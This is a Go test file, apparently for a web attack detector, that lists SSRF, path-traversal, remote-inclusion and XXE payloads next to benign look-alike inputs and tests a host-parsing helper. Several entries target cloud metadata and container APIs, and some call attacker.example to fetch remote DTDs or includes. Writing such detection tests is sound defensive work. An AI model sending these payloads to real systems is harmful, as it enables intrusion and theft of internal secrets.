@@ -1,0 +1,110 @@
+package tier1
+
+import "testing"
+
+// SSRF to internal host aliases and URL parser confusion, evasive
+// traversal spellings, and XML inclusion outside an XML body; and the
+// values near them that are no attack.
+func init() {
+	attacks = append(attacks,
+		// A host alias with a path is a URL without its scheme, whatever
+		// the parameter is called.
+		attackEntry{lQ, "q", "host.docker.internal/v1.41/containers/json", "ssrf-loopback", encAll},
+		attackEntry{lJ, "comment", "kubernetes.default.svc/api/v1/secrets", "ssrf-loopback", encURL},
+		attackEntry{lQ, "next", "ip6-localhost/admin", "ssrf-loopback", encURL},
+		attackEntry{lF, "feedback", "lvh.me:9200/_cat/indices", "ssrf-loopback", 0},
+		attackEntry{lC, "last_site", "gateway.docker.internal/", "ssrf-loopback", 0},
+		// An internal name with a port alone.
+		attackEntry{lJ, "target", "host.containers.internal:2375", "ssrf-loopback", 0},
+		attackEntry{lJ, "sync.peer", "kubernetes.docker.internal:6443", "ssrf-loopback", encURL},
+		// Metadata services of other clouds.
+		attackEntry{lQ, "u", "http://metadata.packet.net/metadata", "ssrf-metadata", encAll},
+		attackEntry{lJ, "hook", "http://metadata.tencentyun.com/latest/meta-data/", "ssrf-metadata", 0},
+		// A link-local address with an IPv6 zone.
+		attackEntry{lQ, "u", "http://[fe80::1%eth0]:8080/", "ssrf-link-local", encURL},
+		attackEntry{lQ, "u", "http://[fe80::a00:27ff:fe4e:66a1%25en0]/", "ssrf-link-local", 0},
+		// A public address written as one integer.
+		attackEntry{lQ, "img", "http://3627734734/x.png", "ssrf-encoded-ip", encURL},
+		attackEntry{lJ, "src", "https:0x5db8d822", "ssrf-encoded-ip", 0},
+		// A user info in the first path segment.
+		attackEntry{lQ, "page", "http://trusted.example/:x@attacker.example/shell.txt", "rfi", encAll},
+		attackEntry{lJ, "template", "https://cdn.example.com/:a@b@attacker.example/inc", "rfi", 0},
+
+		// Traversal with a Windows separator or a path parameter.
+		attackEntry{lQ, "file", `..\secrets.kdbx`, "path-traversal", encAll},
+		attackEntry{lC, "theme", `..\..\inetpub\logs`, "path-traversal", encURL},
+		attackEntry{lQ, "doc", "..;/manager/html", "path-traversal", encURL},
+		// Traversal spelled in hex codes.
+		attackEntry{lQ, "f", "0x2e0x2e0x2fconfig.php", "path-traversal", encAll},
+		attackEntry{lJ, "path", "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini", "path-traversal", encURL},
+		attackEntry{lQ, "f", "0x5c..0x5c", "path-traversal", encURL},
+		// The Vite dev server's virtual-module endpoint.
+		attackEntry{lP, "0", "/@id/__x00__virtual:env", "lfi-sensitive-file", encURL},
+		// A redirection that drops a file into /tmp.
+		attackEntry{lQ, "q", ">/tmp/x.sh", "lfi-sensitive-file", encAll},
+		attackEntry{lJ, "cmd", ">>/tmp/.cache", "lfi-sensitive-file", encURL},
+
+		// XInclude and external parameter entities in data parameters.
+		attackEntry{lQ, "xml", `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`, "xxe-external-entity", encURL},
+		attackEntry{lJ, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://attacker.example/a"/></svg>`, "xxe-external-entity", encURL},
+		attackEntry{lF, "data", `<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;`, "xxe-external-entity", encURL},
+		attackEntry{lQ, "q", "x!ENTITY % p PUBLIC", "xxe-external-entity", encURL},
+	)
+	benign = append(benign,
+		// Hosts in prose, hosts without a path or port, public hosts.
+		corpusEntry{lQ, "q", "host.docker.internal"},
+		corpusEntry{lQ, "q", "how do I reach host.docker.internal from a container?"},
+		corpusEntry{lJ, "message", "Run it with curl localhost:8080/health and check the logs"},
+		corpusEntry{lJ, "body", "localhost:3000"},
+		corpusEntry{lJ, "body", "10/2"},
+		corpusEntry{lQ, "q", "api.example.com/v2/users"},
+		corpusEntry{lJ, "note", "2024/05/01"},
+		corpusEntry{lH, "x-forwarded-host", "localhost/"},
+		// Public addresses and ordinary URLs.
+		corpusEntry{lQ, "u", "http://203.0.113.7:8080/status"},
+		corpusEntry{lQ, "u", "http://12345/"},
+		corpusEntry{lJ, "profile", "https://mastodon.social/@alice@example.org"},
+		corpusEntry{lJ, "profile", "https://www.youtube.com/@some.channel/videos"},
+		corpusEntry{lJ, "room", "https://matrix.to/#/@alice:matrix.org"},
+		corpusEntry{lJ, "route", "https://api.example.com/users/:id"},
+		corpusEntry{lJ, "peer", "[fe80::1%eth0]"},
+		// Relative paths and hex values.
+		corpusEntry{lQ, "file", "../images/logo.png"},
+		corpusEntry{lJ, "message", "Source: ../../cmd/compile/internal/types2/api.go"},
+		corpusEntry{lQ, "q", "Keep in sync with ../../test/noinit.go"},
+		corpusEntry{lJ, "color", "0x2e2e2f"},
+		corpusEntry{lJ, "bytes", "0x2f 0x2e 0x5c are the slash, the dot and the backslash"},
+		corpusEntry{lQ, "q", "C:\\Users\\bob\\..\\alice"},
+		corpusEntry{lJ, "message", "exec >/var/tmp/1"},
+		corpusEntry{lJ, "message", "go test ./... > /tmp/out.txt"},
+		corpusEntry{lQ, "q", "vite /@id/ virtual modules"},
+		// XML talk that declares nothing.
+		corpusEntry{lJ, "message", "its own character names with <!ENTITY ...> directives."},
+		corpusEntry{lJ, "message", "Enable XInclude with xmllint --xinclude"},
+		corpusEntry{lJ, "ns", "http://www.w3.org/2001/XInclude"},
+	)
+}
+
+// TestBareHost covers the host-with-a-path or port shape.
+func TestBareHost(t *testing.T) {
+	tests := []struct {
+		in, host string
+		path     bool
+	}{
+		{"localhost/", "localhost", true},
+		{"  lvh.me:8080/x ", "lvh.me:8080", true},
+		{"host.docker.internal:2375", "host.docker.internal:2375", false},
+		{"localhost", "", false},
+		{"localhost:", "", false},
+		{"localhost:http", "", false},
+		{"a b/", "", false},
+		{"/x", "", false},
+		{"x_y/", "", false},
+	}
+	for _, tt := range tests {
+		h, p := bareHost(tt.in)
+		if h != tt.host || p != tt.path {
+			t.Errorf("bareHost(%q) = %q, %v; want %q, %v", tt.in, h, p, tt.host, tt.path)
+		}
+	}
+}
